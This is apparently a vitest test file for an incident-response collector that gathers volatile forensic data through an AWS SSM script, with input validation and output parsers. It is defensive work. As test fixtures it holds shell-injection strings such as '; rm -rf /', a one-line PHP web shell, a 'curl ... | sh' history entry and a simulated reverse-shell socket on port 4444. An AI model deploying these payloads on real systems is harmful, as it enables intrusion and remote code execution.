/**
 * The volatile catalogue: the parameters sent for each item (the commands are branches of the
 * fixed SSM document incident-collect-volatile), strict validation of its only two variables, and
 * parsers checked against real output: the document's script is run here the way the SSM agent
 * runs it (a script file under `sh`, the parameters as SSM_<name> environment variables), where
 * the tool exists on this machine.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkSsmParameters, SSM_DOCUMENTS, ssmDocument } from '../../../src/aws/ssmDocuments.js';
import { ValidationError } from '../../../src/errors.js';
import {
  FIXED_VOLATILE_ITEMS,
  parseDeletedBinaries,
  parseLsmod,
  parseModifiedFiles,
  parseProcesses,
  parseSections,
  parseSockets,
  validateModifiedWithinMinutes,
  validateWebRoots,
  VOLATILE_ITEM_IDS,
  volatileItem,
  volatileItems,
  WEB_FILES_MAX_LINES,
  webRecentFilesParameters,
  type VolatileItemId,
} from '../../../src/pipeline/forensics/volatileCommands.js';

const PARAMS = { webRoots: ['/var/www'], modifiedWithinMinutes: 1440 };
const DOCUMENT = ssmDocument(SSM_DOCUMENTS.collectVolatile);
const SCRIPT = DOCUMENT.content.mainSteps[0]!.inputs.runCommand.join('\n');

/** The document's branch for one item: the text between `<id>)` and its `;;`. */
function branch(id: string, script = SCRIPT): string {
  const start = script.indexOf(`\n  ${id})\n`);
  if (start < 0) throw new Error(`no branch for ${id}`);
  return script.slice(start, script.indexOf('\n    ;;', start));
}

function sh(command: string, env: NodeJS.ProcessEnv = process.env): { stdout: string; stderr: string; status: number | null } {
  const r = spawnSync('sh', ['-c', command], { encoding: 'utf8', env, maxBuffer: 64 * 1024 * 1024 });
  return { stdout: r.stdout, stderr: r.stderr, status: r.status };
}

let scriptDir: string | undefined;
/** Runs the document's script as the agent does: a script file under sh, parameters as SSM_ variables (defaults included). */
function runItem(parameters: Record<string, string>, env: NodeJS.ProcessEnv = process.env, script = SCRIPT): { stdout: string; stderr: string; status: number | null } {
  scriptDir ??= mkdtempSync(join(tmpdir(), 'volatile-doc-'));
  const file = join(scriptDir, `_script-${Math.random().toString(36).slice(2)}.sh`);
  writeFileSync(file, script);
  const defaults = Object.fromEntries(Object.entries(DOCUMENT.content.parameters ?? {}).flatMap(([k, p]) => (p.default === undefined ? [] : [[`SSM_${k}`, p.default]])));
  const vars = Object.fromEntries(Object.entries(checkSsmParameters(DOCUMENT, parameters)).map(([k, [v]]) => [`SSM_${k}`, v!]));
  const r = spawnSync('sh', [file], { encoding: 'utf8', env: { ...env, ...defaults, ...vars }, maxBuffer: 64 * 1024 * 1024 });
  return { stdout: r.stdout, stderr: r.stderr, status: r.status };
}
afterAll(() => {
  if (scriptDir) rmSync(scriptDir, { recursive: true, force: true });
});

function hasTool(name: string): boolean {
  return sh(`command -v ${name} >/dev/null 2>&1`).status === 0;
}

describe('the catalogue', () => {
  it('has every required item, each with a description and the parameters that name it', () => {
    expect([...VOLATILE_ITEM_IDS].sort()).toEqual(
      [
        'processes',
        'network-connections',
        'listening-sockets',
        'logged-in-users',
        'last-logins',
        'shell-histories',
        'recent-logs',
        'crontabs',
        'authorized-keys',
        'kernel-modules',
        'deleted-binaries',
        'web-recent-files',
      ].sort(),
    );
    const items = volatileItems(PARAMS);
    expect(items.map((i) => i.id)).toEqual([...VOLATILE_ITEM_IDS]);
    for (const item of items) {
      expect(item.description.length).toBeGreaterThan(10);
      // Fixed items send only their name, whatever the parameters.
      if (item.id !== 'web-recent-files') {
        expect(item.parameters).toEqual({ item: item.id });
        expect(volatileItem(item.id, { webRoots: ['/srv/other'], modifiedWithinMinutes: 5 }).parameters).toEqual({ item: item.id });
      }
      // The document accepts what is sent.
      expect(() => checkSsmParameters(DOCUMENT, item.parameters)).not.toThrow();
    }
    expect(volatileItem('web-recent-files', { webRoots: ['/var/www/', '/srv/app', '/var/www'], modifiedWithinMinutes: 90 }).parameters).toEqual({
      item: 'web-recent-files',
      webRoots: '/var/www /srv/app',
      modifiedWithinMinutes: '90',
    });
  });

  it('has exactly one branch in the document per item, and the document accepts no other item', () => {
    const branches = [...SCRIPT.matchAll(/^ {2}([a-z-]+)\)$/gm)].map((m) => m[1]);
    expect(branches).toEqual([...VOLATILE_ITEM_IDS]);
    const item = new RegExp(DOCUMENT.content.parameters!.item!.allowedPattern);
    for (const id of VOLATILE_ITEM_IDS) expect(item.test(id)).toBe(true);
    for (const other of ['memory', 'processes2', 'processes;id', '']) expect(item.test(other)).toBe(false);
    expect(runItem({ item: 'processes' }, process.env, SCRIPT.replace('\n  processes)\n', '\n  nothing)\n')).status).toBe(2);
  });

  it('runs the commands the collection is specified with', () => {
    expect(branch('processes')).toContain('ps -e -ww -o pid,ppid,user:32,lstart,args --no-headers');
    expect(branch('network-connections')).toContain('ss -tanp');
    expect(branch('listening-sockets')).toContain('ss -tulnp');
    expect(branch('logged-in-users').trim()).toBe('logged-in-users)\n    who -a');
    expect(branch('last-logins')).toContain('last -Fw -n 50');
    expect(branch('shell-histories')).toContain('/root/.bash_history /root/.zsh_history /root/.ash_history /home/*/.bash_history');
    for (const log of ['/var/log/auth.log', '/var/log/secure', '/var/log/syslog', '/var/log/messages', 'journalctl']) expect(branch('recent-logs')).toContain(log);
    for (const cron of ['/etc/crontab', '/etc/cron.d/*', '/etc/cron.daily/*', '/var/spool/cron/*']) expect(branch('crontabs')).toContain(cron);
    expect(branch('authorized-keys')).toContain('/root/.ssh/authorized_keys /root/.ssh/authorized_keys2 /home/*/.ssh/authorized_keys');
    expect(branch('kernel-modules').trim()).toBe('kernel-modules)\n    lsmod');
    expect(branch('deleted-binaries')).toContain("ls -l /proc/[0-9]*/exe 2>/dev/null | grep -F '(deleted)' || true");
    expect(branch('web-recent-files')).toContain(
      `find "$r" -xdev -type f -mmin "-$SSM_modifiedWithinMinutes" -printf '%T@ %s %m %u %p\\n' 2>/dev/null | sort -rn | head -n ${WEB_FILES_MAX_LINES}`,
    );
  });

  it('selects a subset in catalogue order, without duplicates', () => {
    expect(volatileItems(PARAMS, ['kernel-modules', 'processes', 'kernel-modules']).map((i) => i.id)).toEqual(['processes', 'kernel-modules']);
  });
});

describe('web roots and minutes: the only variables', () => {
  it.each([
    '/var/www; rm -rf /',
    '/var/www$(id)',
    '/var/www`id`',
    "/var/www'",
    '/var/www"',
    '/var/www\nid',
    '/var/ww w',
    '/var/www/../../etc',
    '/var/./www',
    'var/www',
    '/',
    '//',
    '/var//www',
    '/var/www|id',
    '/var/www&',
    '/var/*',
    '/var/www\0',
    `/${'a'.repeat(200)}`,
    '',
  ])('refuses %j', (root) => {
    expect(() => validateWebRoots([root])).toThrow(ValidationError);
    expect(() => volatileItems({ webRoots: [root], modifiedWithinMinutes: 60 })).toThrow(ValidationError);
  });

  it('accepts plain roots, drops trailing slashes and duplicates', () => {
    expect(validateWebRoots(['/var/www/', '/var/www', '/srv/app-1/public_html', '/opt/site.v2'])).toEqual(['/var/www', '/srv/app-1/public_html', '/opt/site.v2']);
  });

  it('refuses no roots, too many roots, and bad minutes', () => {
    expect(() => validateWebRoots([])).toThrow(ValidationError);
    expect(() => validateWebRoots(Array.from({ length: 11 }, (_, i) => `/srv/${i}`))).toThrow(ValidationError);
    for (const m of [0, -1, 1.5, Number.NaN, 43_201, Number.POSITIVE_INFINITY]) expect(() => validateModifiedWithinMinutes(m)).toThrow(ValidationError);
    expect(validateModifiedWithinMinutes(1)).toBe(1);
    expect(validateModifiedWithinMinutes(43_200)).toBe(43_200);
  });

  it('any accepted root is sent as is (space-separated, deduplicated) and passes the document pattern; anything else never leaves', () => {
    const segment = fc.stringMatching(/^[A-Za-z0-9._-]{1,12}$/).filter((s) => s !== '.' && s !== '..');
    const root = fc.array(segment, { minLength: 1, maxLength: 4 }).map((s) => `/${s.join('/')}`);
    const pattern = new RegExp(DOCUMENT.content.parameters!.webRoots!.allowedPattern);
    fc.assert(
      fc.property(fc.array(root, { minLength: 1, maxLength: 3 }), fc.integer({ min: 1, max: 43_200 }), (roots, minutes) => {
        const parameters = webRecentFilesParameters(roots, minutes);
        expect(parameters).toEqual({ item: 'web-recent-files', webRoots: [...new Set(roots)].join(' '), modifiedWithinMinutes: String(minutes) });
        expect(pattern.test(parameters.webRoots!)).toBe(true);
        expect(() => checkSsmParameters(DOCUMENT, parameters)).not.toThrow();
      }),
    );
    // And anything with a shell character never gets through.
    fc.assert(
      fc.property(fc.string({ minLength: 1, maxLength: 30 }), (s) => {
        const candidate = `/var/${s}`;
        if (/[^A-Za-z0-9._/-]/.test(s)) expect(() => webRecentFilesParameters([candidate], 60)).toThrow(ValidationError);
      }),
    );
  });
});

describe('commands run under sh, parsed', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'volatile-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('web-recent-files lists recently modified files (newest first), skips old ones, and reports a missing root on stderr', () => {
    const root = join(dir, 'www');
    mkdirSync(join(root, 'uploads'), { recursive: true });
    writeFileSync(join(root, 'index.php'), '<?php echo 1;');
    const shell = '<?php system($_GET["c"]);';
    writeFileSync(join(root, 'uploads', 'shell.php'), shell);
    writeFileSync(join(root, 'old.html'), 'old');
    const now = Date.now() / 1000;
    utimesSync(join(root, 'old.html'), now - 3 * 86_400, now - 3 * 86_400);
    utimesSync(join(root, 'index.php'), now - 600, now - 600);
    utimesSync(join(root, 'uploads', 'shell.php'), now - 60, now - 60);

    const r = runItem(webRecentFilesParameters([root, join(dir, 'missing')], 1440));
    expect(r.status).toBe(0);
    expect(r.stderr).toContain(`sentinel: ${join(dir, 'missing')} is not a directory`);
    const files = parseModifiedFiles(r.stdout);
    expect(files.map((f) => f.path)).toEqual([join(root, 'uploads', 'shell.php'), join(root, 'index.php')]);
    expect(files[0]).toMatchObject({ size: Buffer.byteLength(shell), mode: expect.stringMatching(/^[0-7]+$/), user: expect.any(String) });
    expect(Math.abs(Date.parse(files[0]!.modified as string) / 1000 - (now - 60))).toBeLessThan(2);
  });

  it('processes: real ps output parses, including this test process with its full command line', () => {
    const r = runItem({ item: 'processes' });
    expect(r.status).toBe(0);
    const procs = parseProcesses(r.stdout);
    expect(procs.length).toBeGreaterThan(1);
    expect(procs.length).toBe(r.stdout.split('\n').filter(Boolean).length);
    const self = procs.find((p) => p.pid === process.pid);
    expect(self).toMatchObject({ pid: process.pid, ppid: process.ppid, started: expect.stringMatching(/^[A-Z][a-z]{2} [A-Z][a-z]{2} \d{1,2} \d\d:\d\d:\d\d \d{4}$/) });
    expect(self!.args).toContain('node');
  });

  it.runIf(hasTool('ss'))('listening-sockets: real ss output parses and finds a socket this process listens on', async () => {
    const { createServer } = await import('node:net');
    const server = createServer();
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as { port: number }).port;
    try {
      const r = runItem({ item: 'listening-sockets' });
      expect(r.status).toBe(0);
      const sockets = parseSockets(r.stdout);
      const mine = sockets.find((s) => s.local === `127.0.0.1:${port}`);
      expect(mine).toMatchObject({ netid: 'tcp', state: 'LISTEN' });
      expect((mine!.processes as { pid: number }[]).map((p) => p.pid)).toContain(process.pid);
    } finally {
      server.close();
    }
  });

  it('the fixed commands that find nothing still exit 0 (so a non-zero exit means the collection failed)', () => {
    const env = { ...process.env, PATH: '/usr/bin:/bin' };
    for (const id of ['shell-histories', 'authorized-keys', 'deleted-binaries', 'last-logins'] as const) {
      expect({ id, status: runItem({ item: id }, env).status }).toEqual({ id, status: 0 });
    }
    // Every fixed item is in the catalogue the action sends from.
    expect(Object.keys(FIXED_VOLATILE_ITEMS).sort()).toEqual(VOLATILE_ITEM_IDS.filter((i): i is Exclude<VolatileItemId, 'web-recent-files'> => i !== 'web-recent-files').sort());
  });
});

describe('parsers on recorded output', () => {
  it('ss -tanp (no Netid column) with several owning processes', () => {
    const out = [
      'State     Recv-Q Send-Q      Local Address:Port        Peer Address:Port Process',
      'LISTEN    0      511               0.0.0.0:80               0.0.0.0:*     users:(("nginx",pid=812,fd=6),("nginx",pid=811,fd=6))',
      'ESTAB     0      0              10.0.12.34:48122      203.0.113.45:4444  users:(("bash",pid=31337,fd=0),("bash",pid=31337,fd=1))',
      'TIME-WAIT 0      0              10.0.12.34:22          198.51.100.7:51514',
    ].join('\n');
    expect(parseSockets(out)).toEqual([
      { netid: 'tcp', state: 'LISTEN', local: '0.0.0.0:80', peer: '0.0.0.0:*', processes: [{ name: 'nginx', pid: 812 }, { name: 'nginx', pid: 811 }] },
      { netid: 'tcp', state: 'ESTAB', local: '10.0.12.34:48122', peer: '203.0.113.45:4444', processes: [{ name: 'bash', pid: 31337 }, { name: 'bash', pid: 31337 }] },
      { netid: 'tcp', state: 'TIME-WAIT', local: '10.0.12.34:22', peer: '198.51.100.7:51514', processes: [] },
    ]);
  });

  it('lsmod, deleted binaries and sections', () => {
    expect(parseLsmod('Module                  Size  Used by\nxt_conntrack           16384  1\nnf_nat                 49152  2 xt_MASQUERADE,iptable_nat\n')).toEqual([
      { module: 'xt_conntrack', size: 16384, usedBy: 1, dependents: [] },
      { module: 'nf_nat', size: 49152, usedBy: 2, dependents: ['xt_MASQUERADE', 'iptable_nat'] },
    ]);
    expect(
      parseDeletedBinaries(
        'lrwxrwxrwx 1 www-data www-data 0 Nov 20 03:14 /proc/31337/exe -> /tmp/.x/kworker (deleted)\nlrwxrwxrwx 1 root root 0 Nov 20 03:14 /proc/4242/exe -> /memfd:x (deleted)\n',
      ),
    ).toEqual([
      { pid: 31337, binary: '/tmp/.x/kworker' },
      { pid: 4242, binary: '/memfd:x' },
    ]);
    expect(parseSections('===== /root/.bash_history\n-rw------- 1 root root 5 /root/.bash_history\nid\n\n===== /home/bob/.bash_history -> /dev/null (symlink, not followed)\n')).toEqual([
      { section: '/root/.bash_history' },
      { section: '/home/bob/.bash_history -> /dev/null (symlink, not followed)' },
    ]);
  });

  it('shell-histories reports a history symlinked to /dev/null instead of following it', () => {
    const home = mkdtempSync(join(tmpdir(), 'hist-'));
    try {
      // The real branch reads /root and /home; run the same document text against a stand-in tree.
      const script = SCRIPT.replaceAll('/root/', `${home}/root/`).replaceAll('/home/', `${home}/home/`);
      mkdirSync(join(home, 'root'), { recursive: true });
      mkdirSync(join(home, 'home', 'bob'), { recursive: true });
      writeFileSync(join(home, 'root', '.bash_history'), 'curl http://203.0.113.45/x | sh\n');
      execFileSync('ln', ['-s', '/dev/null', join(home, 'home', 'bob', '.bash_history')]);
      const r = runItem({ item: 'shell-histories' }, process.env, script);
      expect(r.status).toBe(0);
      expect(r.stdout).toContain('curl http://203.0.113.45/x | sh');
      expect(parseSections(r.stdout)).toEqual([
        { section: join(home, 'root', '.bash_history') },
        { section: `${join(home, 'home', 'bob', '.bash_history')} -> /dev/null (symlink, not followed)` },
      ]);
    } finally {
      rmSync(home, { recursive: true, force: true });
    }
  });
});
